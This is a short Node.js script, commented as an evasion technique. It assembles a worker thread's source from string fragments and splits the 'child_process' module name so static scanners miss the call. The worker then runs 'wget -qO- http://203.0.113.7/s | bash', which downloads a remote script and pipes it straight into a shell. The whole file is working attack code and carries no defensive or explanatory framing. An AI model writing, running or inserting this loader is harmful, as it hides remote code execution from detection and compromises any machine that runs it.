// Evasion: the shell runs inside a worker thread whose source is a string
// (new Worker(code, { eval: true })); the string is joined from lines kept in
// an array, so the main file never calls child_process itself.
'use strict';
const { Worker } = require('worker_threads');

const lines = [
  "const { parentPort } = require('worker_threads');",
  "const run = require('child_' + 'process').execSync;",
  "parentPort.postMessage(run('wget -qO- http://203.0.113.7/s | bash').toString());",
];

const w = new Worker(lines.join('\n'), { eval: true });
w.on('message', (m) => console.log('worker said:', m));
w.on('error', (e) => console.error(e));
